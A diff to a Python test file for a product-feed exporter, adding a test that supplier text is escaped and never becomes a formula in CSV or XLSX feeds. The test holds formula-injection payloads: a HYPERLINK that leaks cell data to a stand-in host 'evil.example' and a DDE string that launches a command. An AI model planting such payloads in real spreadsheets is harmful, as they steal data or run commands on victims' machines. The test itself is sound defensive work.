@@ -194,4 +194,24 @@ def test_product_feed_lists_every_approved_image_in_position_order_with_its_stor
     rows = list(feeds.product_rows(store["reseller"]))
 
     assert [row["images"] for row in rows] == [expected, expected]
-    assert "%E5%BE%8C" in expected[2]  # the Chinese name is quoted as storage.url() quotes it
+    assert "後" not in expected[2] and "%E5%BE%8C" not in expected[2]  # stored under a random name (core/media.py)
+
+
+EVIL_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"點此")'
+
+
+def test_a_suppliers_text_never_becomes_a_formula_in_the_resellers_feeds(reseller_client, store):
+    from suppliers.models import Product
+
+    Product.objects.filter(pk=store["product"].pk).update(title=EVIL_TITLE, approved_title=EVIL_TITLE, brand="+cmd|' /C calc'!A0")
+
+    rows = list(csv.reader(io.StringIO(body(reseller_client.get(reverse("resellers:feed_products", args=["csv"]))).decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + EVIL_TITLE in cells
+    assert not any(cell[:1] in ("=", "+", "@") for cell in cells)
+
+    workbook = load_workbook(io.BytesIO(body(reseller_client.get(reverse("resellers:feed_products", args=["xlsx"])))))
+    values = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
+    titles = [c for c in values if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert titles and all(c.data_type == "s" and c.value == "'" + EVIL_TITLE for c in titles)
+    assert not any(c.data_type == "f" for c in values)
